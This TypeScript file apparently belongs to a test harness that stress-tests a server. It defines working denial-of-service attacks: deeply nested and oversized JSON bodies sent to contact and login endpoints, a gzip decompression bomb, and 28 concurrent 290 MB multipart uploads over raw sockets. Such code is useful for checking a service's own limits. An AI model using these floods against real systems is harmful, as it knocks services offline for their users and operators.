import { gzipSync } from 'node:zlib'
import { type Attack, closed, createSender, flood, json, openSocket, type Sent } from './attack.ts'

const MEGABYTE = 1024 * 1024
const AT_ONCE = 16
const UPLOADS = 28
const FIELDS_OF_ONE_UPLOAD = 290 * MEGABYTE
const FIELD_BYTES = 200_000

function bodies(make: (target: Parameters<Attack>[0]) => Sent[]): Attack {
  return async (target) => {
    const run = flood(make(target), AT_ONCE)
    const send = createSender(target, AT_ONCE)
    return (isOver) => run(send, isOver)
  }
}

/** Nested lists, many values and one long valid text, a megabyte each. */
export const jsonFlood = bodies((target) => [
  json(target, '/contacts', '['.repeat(MEGABYTE - 1)),
  json(target, '/contacts', `${'['.repeat(5000)}${']'.repeat(5000)}`),
  json(target, '/contacts', `[${'1,'.repeat(MEGABYTE / 2 - 10)}1]`),
  json(target, '/contacts', JSON.stringify({ name: 'x'.repeat(MEGABYTE - 100) })),
  json(target, '/contacts', JSON.stringify({ name: '\u0315\u0300'.repeat(250_000) })),
  json(target, '/users/login', '{"a":'.repeat(6000)),
])

/** Ten kilobytes that decompress to ten megabytes. */
export const compressedBodies = bodies((target) => {
  const bomb = gzipSync(Buffer.alloc(10 * MEGABYTE, 0x20))
  const sent = json(target, '/contacts', '')
  const headers = { ...sent.headers, 'content-encoding': 'gzip', 'content-length': bomb.length }
  return [{ ...sent, headers, body: bomb }]
})

/**
 * 28 concurrent uploads with 290 MB of fields each, sent for as long as the server accepts them.
 */
export const uploads: Attack = async (target) => {
  const head = Buffer.from(
    `POST /api/media HTTP/1.1\r\nhost: ${target.host}:${target.port}\r\nauthorization: Bearer ${target.token}\r\n` +
      `content-type: multipart/form-data; boundary=b\r\ncontent-length: ${FIELDS_OF_ONE_UPLOAD}\r\n\r\n`,
  )
  const field = Buffer.from(
    `--b\r\ncontent-disposition: form-data; name="a"\r\n\r\n${'x'.repeat(FIELD_BYTES)}\r\n`,
  )
  return async (isOver) => {
    const counts = { uploads: 0, megabytes: 0 }
    const one = async () => {
      while (!isOver()) {
        const socket = openSocket(target)
        const gone = closed(socket)
        socket.write(head)
        while (!socket.destroyed && !isOver() && socket.bytesWritten < FIELDS_OF_ONE_UPLOAD) {
          if (socket.write(field)) continue
          await Promise.race([new Promise((next) => socket.once('drain', next)), gone])
        }
        counts.uploads += 1
        counts.megabytes += Math.round(socket.bytesWritten / MEGABYTE)
        socket.destroy()
      }
    }
    await Promise.all(Array.from({ length: UPLOADS }, one))
    return counts
  }
}
